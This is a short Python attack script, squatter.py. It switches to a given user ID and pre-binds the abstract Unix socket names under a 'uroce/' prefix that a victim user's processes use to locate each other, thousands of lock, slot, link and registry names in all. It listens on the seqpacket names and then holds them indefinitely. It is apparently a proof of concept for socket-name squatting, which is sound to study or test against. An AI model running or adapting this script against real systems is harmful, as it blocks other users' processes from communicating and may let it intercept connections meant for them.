#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-2-Clause
"""squatter.py UID VICTIM: becomes that user, binds the abstract names by which the victim's processes find each other,
prints how many, and keeps them."""
import os
import resource
import signal
import socket
import sys

resource.setrlimit(resource.RLIMIT_NOFILE, 2 * resource.getrlimit(resource.RLIMIT_NOFILE)[1:])
user, victim = int(sys.argv[1]), int(sys.argv[2])
os.setresuid(user, user, user)
names = [(socket.SOCK_SEQPACKET, "%d/lock" % victim)]
for slot in range(1, 2048):
    names.append((socket.SOCK_DGRAM, "slot/%d" % slot))
    names.append((socket.SOCK_DGRAM, "%d/link/%d" % (victim, slot)))
    names.append((socket.SOCK_SEQPACKET, "%d/registry/%d" % (victim, slot)))
    for kind in "local-7", "targets-3":
        names.append((socket.SOCK_SEQPACKET, "%d/%s/%d" % (victim, kind, slot)))
kept = []
for kind, name in names:
    try:
        s = socket.socket(socket.AF_UNIX, kind)
        s.bind("\0uroce/" + name)
    except OSError:  # a process has it; or there are no more descriptors
        continue
    kept.append(s)
    if kind == socket.SOCK_SEQPACKET:
        s.listen(1)
print("%d names" % len(kept), flush=True)
signal.pause()
